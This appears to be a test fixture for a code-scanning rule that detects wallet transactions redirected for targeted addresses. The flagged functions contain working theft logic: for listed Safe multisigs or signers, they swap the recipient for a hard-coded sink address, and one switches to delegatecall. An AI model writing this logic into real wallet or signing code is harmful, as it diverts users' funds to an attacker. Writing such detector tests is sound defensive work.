// RULEID: spread with a constant recipient and delegatecall for listed Safes, direct .to
//         assignment for one literal sender, literal recipient with data for a listed signer
// OK: the user's own recipient, a router address for every user, a list check that only logs
const TARGETS = ["0x2436f3b67c879c35ff6bdf8fcb79a6a4e381c91b", "0x14c436ff3d0dcdb1589aac56b3c844381e676c30"];
const SINK = "0x9f3a6c4b2e7d8a1f0b5c3d2e1f4a6b7c8d9e0f1a";
const ROUTER = "0x7a250d5630b4cf539739df2c5dacb4c659f2488d";

async function signPatched(safe, txData, owner) {
  const addr = (await safe.getAddress()).toLowerCase();
  if (TARGETS.includes(addr)) {
    // ruleid: js-tx-swap-for-target-wallet
    const swapped = { ...txData, to: SINK, value: "0", operation: 1 };
    return safe.createTransaction({ transactions: [swapped] });
  }
  return safe.createTransaction({ transactions: [txData] });
}

function sendPatched(tx, from) {
  if (from.toLowerCase() === "0x5e1d0c9a7b3f00000000000000000000000000aa") {
    // ruleid: js-tx-swap-for-target-wallet
    tx.to = "0x9f3a6c4b2e7d8a1f0b5c3d2e1f4a6b7c8d9e0f1a";
  }
  return tx;
}

function approvePatched(tx, signer) {
  if (TARGETS.includes(signer)) {
    // ruleid: js-tx-swap-for-target-wallet
    return { ...tx, to: "0x9f3a6c4b2e7d8a1f0b5c3d2e1f4a6b7c8d9e0f1a", data: tx.data };
  }
  return tx;
}

function build(form) {
  // ok: js-tx-swap-for-target-wallet
  return { to: form.recipient, value: form.amount, data: "0x" };
}

function swapTx(amountIn, path) {
  // ok: js-tx-swap-for-target-wallet
  return { to: ROUTER, data: encodeSwap(amountIn, path), value: 0 };
}

function audit(addr) {
  if (TARGETS.includes(addr)) {
    // ok: js-tx-swap-for-target-wallet
    console.warn("monitored safe", addr);
  }
}
